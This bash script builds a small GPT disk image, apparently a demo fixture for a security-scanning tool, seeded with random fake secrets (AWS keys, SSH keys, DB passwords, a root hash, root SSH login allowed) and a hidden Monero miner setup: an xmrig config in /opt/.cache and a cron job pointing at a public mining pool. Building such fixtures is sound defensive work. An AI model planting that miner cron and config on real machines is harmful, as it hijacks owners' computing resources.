#!/bin/bash
# Makes demo.img.gz: an 8 MiB disk with a GPT, a leaky ext4 root and swap, for `assay demo`.
# Every secret in it is random and opens nothing. Needs e2fsprogs, gdisk, util-linux, openssh-client, openssl, perl.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
root=$work/root

# word ALPHABET LENGTH: random characters.
word() { perl -e 'my ($a, $n) = @ARGV; my @a = split //, $a; open R, "<", "/dev/urandom"; read R, my $b, $n;
  print join "", map { $a[ord($_) % @a] } split //, $b' "$1" "$2"; }
upper=ABCDEFGHIJKLMNOPQRSTUVWXYZ234567
any=ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789

mkdir -p "$root"/{bin,boot,dev,etc/{ssh,cron.d,systemd/system},home/admin/.ssh,opt/.cache,proc,root/{.aws,.ssh},srv/app,tmp,usr/{bin,lib},var/{lib,log}}
cat > "$root/etc/os-release" <<X
PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
VERSION_CODENAME=bookworm
ID=debian
X
cat > "$root/etc/passwd" <<X
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
sshd:x:102:65534::/run/sshd:/usr/sbin/nologin
admin:x:1000:1000:Debian:/home/admin:/bin/bash
X
printf 'root:x:0:\ndaemon:x:1:\nsudo:x:27:admin\nadmin:x:1000:\n' > "$root/etc/group"
hash=$(openssl passwd -6 "$(word "$any" 20)")
printf 'root:%s:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\nsshd:!*:19700::::::\nadmin:!:19700:0:99999:7:::\n' "$hash" > "$root/etc/shadow"
echo 'UUID=0dec0de0-0001-4000-8000-000000000001 / ext4 defaults 0 1' > "$root/etc/fstab"
printf 'PermitRootLogin yes\nHostKey /etc/ssh/ssh_host_ed25519_key\n' > "$root/etc/ssh/sshd_config"
ssh-keygen -q -t ed25519 -N '' -C root@packer-build -f "$root/etc/ssh/ssh_host_ed25519_key"
ssh-keygen -q -t ed25519 -N '' -C packer_demo -f "$work/packer"
cp "$work/packer.pub" "$root/home/admin/.ssh/authorized_keys"
ssh-keygen -q -t ed25519 -N '' -C deploy@build -f "$root/root/.ssh/id_ed25519"
printf '[default]\naws_access_key_id = AKIA%s\naws_secret_access_key = %s\n' "$(word $upper 16)" "$(word "$any" 40)" > "$root/root/.aws/credentials"
printf 'apt update\nmysql -h db.internal -u app -p%s shop\nsystemctl restart app\n' "$(word "$any" 18)" > "$root/root/.bash_history"
printf 'DB_HOST=db.internal\nDB_USER=app\nDB_PASSWORD=%s\n' "$(word "$any" 24)" > "$root/srv/app/.env"
cat > "$root/opt/.cache/config.json" <<X
{"autosave": true, "cpu": true, "donate-level": 1,
 "pools": [{"algo": "rx/0", "coin": "monero", "url": "stratum+tcp://pool.supportxmr.com:3333", "user": "demo", "pass": "x", "keepalive": true}]}
X
echo '*/5 * * * * root /opt/.cache/xmrig -c /opt/.cache/config.json -o stratum+tcp://pool.supportxmr.com:3333 >/dev/null 2>&1' > "$root/etc/cron.d/cache"
chmod 700 "$root"/{root,root/.ssh,root/.aws,home/admin/.ssh}
chmod 600 "$root"/{etc/shadow,root/.aws/credentials,root/.bash_history,root/.ssh/id_ed25519,etc/ssh/ssh_host_ed25519_key,home/admin/.ssh/authorized_keys}

disk=$work/demo.img
truncate -s 8M "$disk"
sgdisk -o -n 1:2048:+5M -t 1:8304 -c 1:root -n 2:0:+1M -t 2:8200 -c 2:swap "$disk" > /dev/null
truncate -s 5M "$work/root.ext4"
mkfs.ext4 -q -L root -U 0dec0de0-0001-4000-8000-000000000001 -E root_owner=0:0 -O ^has_journal -N 128 -d "$root" "$work/root.ext4"
# The tree belongs to root whoever builds it; the home directory to its user.
find "$root" -mindepth 1 -printf '/%P\n' | while read -r path; do
  owner=0; case $path in /home/admin*) owner=1000 ;; esac
  printf 'sif %s uid %s\nsif %s gid %s\n' "$path" $owner "$path" $owner
done | debugfs -w -f - "$work/root.ext4" > /dev/null 2>&1
truncate -s 1M "$work/swap"
mkswap -q "$work/swap" > /dev/null 2>&1 || mkswap "$work/swap" > /dev/null
dd if="$work/root.ext4" of="$disk" bs=1M seek=1 conv=notrunc status=none
dd if="$work/swap" of="$disk" bs=1M seek=6 conv=notrunc status=none
gzip -9nc "$disk" > "$here/demo.img.gz"
ls -l "$here/demo.img.gz"
